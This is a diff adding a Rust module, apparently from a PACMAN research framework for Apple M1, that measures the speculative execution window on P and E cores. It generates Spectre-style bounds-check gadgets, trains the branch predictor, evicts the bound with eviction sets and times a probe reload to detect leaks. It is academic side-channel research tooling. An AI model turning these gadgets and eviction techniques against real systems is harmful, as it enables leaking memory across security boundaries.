@@ -0,0 +1,449 @@
+/*!
+ * Measuring the speculation window: how much work fits between a mispredicted bounds check and the check
+ * resolving, while the bound it compares against is on its way from the L2 or from DRAM?
+ *
+ * The PACMAN gadgets only leak if the `aut` and the load after it both execute in that window, so this
+ * measures it with generated code (`window_payload`) shaped like the gadgets:
+ * ```text
+ *     ldr  x9, [x1]         // LIMIT (evicted)
+ *     cmp  x0, x9
+ *     b.hs out              // the bounds check
+ *     <count dependent ops on x2>
+ *     ldr  x10, [x3, x2]    // the transmitting load (depends on every op)
+ * out:
+ *     ret
+ * ```
+ * The ops are either ALU ops (`add`/ `sub` of 1) or loads chasing a pointer that points to itself (always
+ * an L1 hit). Trained in bounds and then called out of bounds, the transmitting load only happens if all
+ * `count` ops fit in the window, which a reload of its line tells apart. The window is the largest `count`
+ * that still leaks, measured per core type and per place `LIMIT` comes from.
+ */
+use std::fmt;
+use serde::{Serialize, Deserialize};
+use crate::aarch64::{Cond, Inst};
+use crate::cache;
+use crate::evset;
+use crate::payload::Payload;
+
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+use {
+    crate::attacks::spectre_sweep::ATTACK_IDX,
+    crate::error::PacmanError,
+    crate::qos::{set_core, CoreKind},
+    crate::results::{ExperimentRecord, ResultsSink},
+    crate::retpoline,
+    crate::timer,
+    core::arch::asm,
+};
+
+/// Condition code for `b.hs` (unsigned >=)
+const COND_HS : Cond = Cond(2);
+
+/// Register the ops are chained through (the transmitting load's index)
+pub const CHAIN_REG : u8 = 2;
+
+/// Instructions in `window_payload` besides the ops (the bounds check, the transmitting load and the `ret`)
+pub const WINDOW_OVERHEAD : usize = 5;
+
+/// The most ops `window_payload` can fit in the page it runs from
+pub const WINDOW_MAX_OPS : usize = cache::PAGE_SIZE / 4 - WINDOW_OVERHEAD;
+
+/// Where `LIMIT` is in the data page (its lines are all in different L1 and L2 sets)
+pub const LIMIT_OFFSET : usize = 0x000;
+
+/// Where the pointer to itself the load ops chase is in the data page
+pub const CELL_OFFSET : usize = 0x400;
+
+/// Where the transmitting line is in the data page
+pub const PROBE_OFFSET : usize = 0x800;
+
+/// Where the line the training calls transmit from is in the data page
+pub const TRAIN_OFFSET : usize = 0xC00;
+
+/// Where in the memory region the addresses evicting `LIMIT` from the L1 only start (away from the eviction set candidates)
+pub const L1_EVSET_OFFSET : usize = evset::STRIDE / 2;
+
+/// What `LIMIT` is set to (the gadget is trained with index 0 and attacked with `ATTACK_IDX`)
+pub const WINDOW_LIMIT : u64 = 100;
+
+/// Trials per setting
+pub const WINDOW_NUM_TRIALS : usize = 64;
+
+/// In-bounds calls before each trial
+pub const WINDOW_TRAINING_CALLS : usize = 64;
+
+/// How many addresses evict `LIMIT` from the L1 (twice the ways)
+pub const WINDOW_L1_EVSET_SIZE : usize = 2 * cache::L1D_WAYS;
+
+/// How many addresses evict `LIMIT` (and the transmitting line) from the L2
+pub const WINDOW_EVSET_SIZE : usize = 50;
+
+/// Reload latency above which the transmitting line wasn't loaded
+pub const WINDOW_MISS_LATENCY : u64 = 40;
+
+/// Fraction of trials that have to leak for ops to count as inside the window
+pub const WINDOW_SUCCESS_RATE : f64 = 0.5;
+
+/**
+ * What the ops between the bounds check and the transmitting load are.
+ */
+#[derive(Copy, Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum WindowOp {
+    /// `add`/ `sub` of 1, alternating (one cycle each)
+    Alu,
+
+    /// `ldr x2, [x2]`, through a pointer to itself (an L1 hit each)
+    Load,
+}
+
+impl WindowOp {
+    /// The op at position `i` of the chain
+    pub fn inst(&self, i: usize) -> Inst {
+        return match self {
+            WindowOp::Alu => Inst::AddImm { rd: CHAIN_REG, rn: CHAIN_REG, imm: 1, negative: i % 2 == 1 },
+            WindowOp::Load => Inst::Ldr { rt: CHAIN_REG, rn: CHAIN_REG, offset: 0, size: 8 },
+        };
+    }
+
+    /// What the chain register starts out as (`cell` points to itself)
+    pub fn chain_start(&self, cell: u64) -> u64 {
+        return match self {
+            WindowOp::Alu => 0,
+            WindowOp::Load => cell,
+        };
+    }
+
+    /// What the chain register ends up as after `count` ops
+    pub fn chain_end(&self, cell: u64, count: usize) -> u64 {
+        return match self {
+            WindowOp::Alu => (count % 2) as u64,
+            WindowOp::Load => cell,
+        };
+    }
+}
+
+impl fmt::Display for WindowOp {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        return write!(f, "{}", match self {
+            WindowOp::Alu => "alu",
+            WindowOp::Load => "load",
+        });
+    }
+}
+
+/**
+ * Where the bounds check's `LIMIT` comes from.
+ */
+#[derive(Copy, Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ConditionSource {
+    /// Evicted from the L1 only: the check waits on an L2 hit
+    L2,
+
+    /// Evicted from the L2 too: the check waits on DRAM
+    Dram,
+}
+
+impl fmt::Display for ConditionSource {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        return write!(f, "{}", match self {
+            ConditionSource::L2 => "l2",
+            ConditionSource::Dram => "dram",
+        });
+    }
+}
+
+/**
+ * Which kind of core to measure on.
+ */
+#[derive(Copy, Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum CoreType {
+    /// A performance (Firestorm) core
+    P,
+
+    /// An efficiency (Icestorm) core
+    E,
+}
+
+impl fmt::Display for CoreType {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        return write!(f, "{}", match self {
+            CoreType::P => "p",
+            CoreType::E => "e",
+        });
+    }
+}
+
+/**
+ * The settings to measure the window for (every combination of core, source and op, at every count) and the
+ * parameters shared by all of them.
+ */
+#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct WindowConfig {
+    /// How many trials to run for each count?
+    pub num_trials: usize,
+
+    /// How many in-bounds calls before each trial?
+    pub training_calls: usize,
+
+    /// How many addresses evict `LIMIT` from the L1 (for `l2`)?
+    pub l1_evset_size: usize,
+
+    /// How many addresses evict `LIMIT` (for `dram`) and the transmitting line from the L2?
+    pub evset_size: usize,
+
+    /// Reload latency above which the transmitting line wasn't loaded
+    pub miss_latency: u64,
+
+    /// Fraction of trials that have to leak for a count to be inside the window
+    pub success_rate: f64,
+
+    /// How many ops to try between the bounds check and the transmitting load
+    pub counts: Vec<usize>,
+
+    pub ops: Vec<WindowOp>,
+    pub sources: Vec<ConditionSource>,
+    pub cores: Vec<CoreType>,
+}
+
+impl Default for WindowConfig {
+    fn default() -> Self {
+        return WindowConfig {
+            num_trials: WINDOW_NUM_TRIALS,
+            training_calls: WINDOW_TRAINING_CALLS,
+            l1_evset_size: WINDOW_L1_EVSET_SIZE,
+            evset_size: WINDOW_EVSET_SIZE,
+            miss_latency: WINDOW_MISS_LATENCY,
+            success_rate: WINDOW_SUCCESS_RATE,
+            counts: vec![0, 8, 16, 32, 48, 64, 96, 128, 160, 192, 256, 320, 384, 512],
+            ops: vec![WindowOp::Alu, WindowOp::Load],
+            sources: vec![ConditionSource::L2, ConditionSource::Dram],
+            cores: vec![CoreType::P, CoreType::E],
+        };
+    }
+}
+
+impl WindowConfig {
+    /**
+     * Check these parameters make sense.
+     * Returns a description of the first problem found.
+     */
+    pub fn validate(&self) -> Result<(), String> {
+        if self.num_trials == 0 {
+            return Err("num_trials must be at least 1".to_string());
+        }
+        if self.l1_evset_size == 0 || self.l1_evset_size > evset::EVSET_SIZE_MAX {
+            return Err(format!("l1_evset_size must be between 1 and {} (got {})", evset::EVSET_SIZE_MAX, self.l1_evset_size));
+        }
+        if self.evset_size == 0 || self.evset_size > evset::EVSET_SIZE_MAX {
+            return Err(format!("evset_size must be between 1 and {} (got {})", evset::EVSET_SIZE_MAX, self.evset_size));
+        }
+        if !(self.success_rate > 0.0 && self.success_rate <= 1.0) {
+            return Err(format!("success_rate must be above 0 and at most 1 (got {})", self.success_rate));
+        }
+        if let Some(count) = self.counts.iter().find(|count| **count > WINDOW_MAX_OPS) {
+            return Err(format!("counts must be at most {} (got {})", WINDOW_MAX_OPS, count));
+        }
+        if self.counts.is_empty() || self.ops.is_empty() || self.sources.is_empty() || self.cores.is_empty() {
+            return Err("counts, ops, sources and cores each need at least one setting".to_string());
+        }
+        return Ok(());
+    }
+}
+
+/**
+ * The window gadget with `count` `op`s, at `base` (see the module docs).
+ *
+ * Called with the index in `x0`, `&LIMIT` in `x1`, `op.chain_start(..)` in `x2` and the transmitting line
+ * minus `op.chain_end(..)` in `x3`. Clobbers `x2`, `x9` and `x10`.
+ */
+pub fn window_payload(base: u64, op: WindowOp, count: usize) -> Payload {
+    let mut payload = Payload::new(base, (count + WINDOW_OVERHEAD) * 4);
+    let out = base + (count as u64 + 4) * 4;
+
+    payload.emit(base, Inst::Ldr { rt: 9, rn: 1, offset: 0, size: 8 });
+    payload.emit(base + 4, Inst::CmpReg { rn: 0, rm: 9 });
+    payload.emit(base + 8, Inst::BCond { cond: COND_HS, offset: (out - (base + 8)) as i64 });
+    for i in 0..count {
+        payload.emit(base + 12 + i as u64 * 4, op.inst(i));
+    }
+    payload.emit(out - 4, Inst::LdrReg { rt: 10, rn: 3, rm: CHAIN_REG, size: 8 });
+    return payload;
+}
+
+/**
+ * How one count of one setting did.
+ */
+#[derive(Clone, Debug, PartialEq)]
+pub struct WindowResult {
+    pub core: CoreType,
+    pub source: ConditionSource,
+    pub op: WindowOp,
+
+    /// How many ops were between the bounds check and the transmitting load
+    pub count: usize,
+
+    /// The transmitting line's reload latency each trial
+    pub samples: Vec<u64>,
+
+    /// How many trials loaded the transmitting line
+    pub speculated: usize,
+}
+
+impl WindowResult {
+    /// The fraction of trials that loaded the transmitting line
+    pub fn success_rate(&self) -> f64 {
+        return self.speculated as f64 / self.samples.len() as f64;
+    }
+}
+
+/**
+ * The speculation window measured by `results` (for one core, source and op): the largest count that leaked
+ * in at least `success_rate` of its trials, with every smaller count leaking too.
+ *
+ * # Return Value
+ * `None` if even the smallest count didn't leak.
+ */
+pub fn window_size(results: &[WindowResult], success_rate: f64) -> Option<usize> {
+    let mut by_count : Vec<&WindowResult> = results.iter().collect();
+    by_count.sort_by_key(|result| result.count);
+
+    let mut window = None;
+    for result in by_count {
+        if result.success_rate() < success_rate {
+            break;
+        }
+        window = Some(result.count);
+    }
+    return window;
+}
+
+/// Call the gadget at `entry` (see `window_payload` for the arguments)
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+#[inline(never)]
+unsafe fn call_window_gadget(entry: u64, idx: u64, limit: u64, chain: u64, transmit: u64) {
+    asm!{
+        "blr {entry}",
+        entry = in(reg) entry,
+        in("x0") idx,
+        in("x1") limit,
+        in("x2") chain,
+        in("x3") transmit,
+        clobber_abi("C"),
+    }
+}
+
+/**
+ * Measure the speculation window for every setting in `config`, recording every count of every setting to
+ * `sink` as a `spec_window` record.
+ *
+ * The gadgets and their data live in the last pages of `memory_region` (past every eviction set candidate),
+ * each gadget in a page of its own so none of them is ever rewritten. Switches cores for the `e` settings and goes back to a P core when done.
+ *
+ * # Return Value
+ * How each count of each setting did (in the order they ran), or why the gadgets couldn't be written or the
+ * results recorded.
+ */
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub unsafe fn spec_window(memory_region: &mut [u8], config: &WindowConfig, sink: &mut dyn ResultsSink) -> Result<Vec<WindowResult>, PacmanError> {
+    let region_base = &memory_region[0] as *const u8 as u64;
+    let data = region_base + (memory_region.len() - cache::PAGE_SIZE) as u64;
+    let limit = data + LIMIT_OFFSET as u64;
+    let cell = data + CELL_OFFSET as u64;
+    let probe = data + PROBE_OFFSET as u64;
+    let train = data + TRAIN_OFFSET as u64;
+    core::ptr::write_volatile(limit as *mut u64, WINDOW_LIMIT);
+    core::ptr::write_volatile(cell as *mut u64, cell);
+    core::ptr::write_volatile(probe as *mut u64, 0);
+    core::ptr::write_volatile(train as *mut u64, 0);
+
+    // Same page offset as LIMIT (so the same L1 set), a page apart
+    let l1_evset : Vec<u64> = (0..config.l1_evset_size)
+        .map(|i| region_base + (L1_EVSET_OFFSET + i * cache::PAGE_SIZE + LIMIT_OFFSET) as u64)
+        .collect();
+    let limit_evset = evset::choose_evset(&evset::data_pevset(limit, limit, memory_region), config.evset_size, "the LIMIT eviction set")?;
+    let probe_evset = evset::choose_evset(&evset::data_pevset(probe, probe, memory_region), config.evset_size, "the transmitting line eviction set")?;
+
+    // One gadget per op and count, in the pages before the data page
+    let mut gadgets = Vec::new();
+    for op in &config.ops {
+        for count in &config.counts {
+            let page = data - ((gadgets.len() + 1) * cache::PAGE_SIZE) as u64;
+            retpoline::mk_payload(&window_payload(page, *op, *count))?;
+            gadgets.push(page);
+        }
+    }
+
+    let mut results = Vec::new();
+    for core in &config.cores {
+        if !set_core(match core { CoreType::P => CoreKind::PCORE, CoreType::E => CoreKind::ECORE }) {
+            println!("Couldn't switch to the {} core, skipping it", core);
+            continue;
+        }
+
+        for source in &config.sources {
+            let condition_evset = match source {
+                ConditionSource::L2 => &l1_evset,
+                ConditionSource::Dram => &limit_evset,
+            };
+
+            for (op_idx, op) in config.ops.iter().enumerate() {
+                let setting_start = results.len();
+
+                for (count_idx, count) in config.counts.iter().enumerate() {
+                    let code = gadgets[op_idx * config.counts.len() + count_idx];
+                    let chain = op.chain_start(cell);
+                    let chain_end = op.chain_end(cell, *count);
+
+                    let mut samples = vec![0u64; config.num_trials];
+                    let mut speculated = 0;
+                    for sample in samples.iter_mut() {
+                        // 1. Train in bounds (transmitting from the training line)
+                        for _ in 0..config.training_calls {
+                            call_window_gadget(code, 0, limit, chain, train.wrapping_sub(chain_end));
+                        }
+
+                        // 2. Evict the transmitting line, then LIMIT
+                        for addr in &probe_evset {
+                            timer::time_access(*addr);
+                        }
+                        for addr in condition_evset {
+                            timer::time_access(*addr);
+                        }
+
+                        // 3. Attack, and see if the transmitting line came in
+                        call_window_gadget(code, ATTACK_IDX, limit, chain, probe.wrapping_sub(chain_end));
+                        *sample = timer::time_access(probe);
+                        speculated += (*sample <= config.miss_latency) as usize;
+                    }
+
+                    let result = WindowResult { core: *core, source: *source, op: *op, count: *count, samples, speculated };
+                    sink.record(
+                        &ExperimentRecord::new("spec_window")
+                            .param("core", core.to_string())
+                            .param("source", source.to_string())
+                            .param("op", op.to_string())
+                            .param("count", *count)
+                            .param("training_calls", config.training_calls)
+                            .param("miss_latency", config.miss_latency)
+                            .param("speculated", result.speculated)
+                            .param("success_rate", result.success_rate())
+                            .samples(&result.samples)
+                    )?;
+                    results.push(result);
+                }
+
+                match window_size(&results[setting_start..], config.success_rate) {
+                    Some(window) => println!("{} core, LIMIT from {}: {} {} ops fit in the window", core, source, window, op),
+                    None => println!("{} core, LIMIT from {}: nothing speculated with {} ops", core, source, op),
+                }
+            }
+        }
+    }
+
+    set_core(CoreKind::PCORE);
+    return Ok(results);
+}